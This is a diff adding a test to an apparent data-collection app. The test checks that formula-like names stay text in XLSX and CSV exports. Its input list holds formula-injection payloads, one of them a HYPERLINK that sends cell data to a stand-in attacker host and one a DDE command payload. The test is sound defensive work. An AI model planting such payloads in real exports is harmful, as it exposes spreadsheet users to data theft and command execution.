@@ -85,3 +85,33 @@ def test_exports_over_http_are_for_coordinators_only(sqlite_server, synced):
     assert synced["visit_id"] in {row["ID"] for row in _sheet_rows(workbook, "visit")}
     zipped = coordinator.get("/exports", params={"format": "csv"})
     assert zipped.status_code == 200 and zipfile.ZipFile(io.BytesIO(zipped.content)).namelist()
+
+
+FORMULAS = ['=HYPERLINK("http://attacker.example/?d="&A1,"Open report")', "+cmd|' /C calc'!A0", "-2+3",
+            "@SUM(1,2)", "\t=1+1"]
+
+
+def test_text_that_looks_like_a_formula_stays_text(sqlite_server, cli, tmp_path):
+    """Issue 10, item 5: a name written as a formula must never become a live formula in a spreadsheet."""
+    trainer = sqlite_server.device()
+    ids = [trainer.create_enterprise(name=text, city=text) for text in FORMULAS]
+
+    xlsx = tmp_path / "export.xlsx"
+    assert cli("export", "--format", "xlsx", "-o", str(xlsx), data=sqlite_server.data).returncode == 0
+    with zipfile.ZipFile(xlsx) as archive:
+        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")]
+    assert not any(b"<f>" in sheet or b"<f " in sheet for sheet in sheets)  # no formula anywhere
+    workbook = load_workbook(xlsx)
+    rows = {row[0].value: row for row in workbook["enterprise"].iter_rows(min_row=2)}
+    for enterprise_id, text in zip(ids, FORMULAS):
+        name = rows[enterprise_id][3]
+        assert name.data_type == "s" and name.value == text  # the trainer's text, exactly, as text
+
+    zipped = tmp_path / "export.zip"
+    assert cli("export", "--format", "csv", "-o", str(zipped), data=sqlite_server.data).returncode == 0
+    with zipfile.ZipFile(zipped) as archive:
+        enterprises = {row["ID"]: row for row in csv.DictReader(
+            io.StringIO(archive.read("enterprise.csv").decode("utf-8-sig"), newline=""))}
+    for enterprise_id, text in zip(ids, FORMULAS):
+        for column in ("Name", "City", "Enterprise"):
+            assert enterprises[enterprise_id][column] == "'" + text  # a leading apostrophe: text to Excel
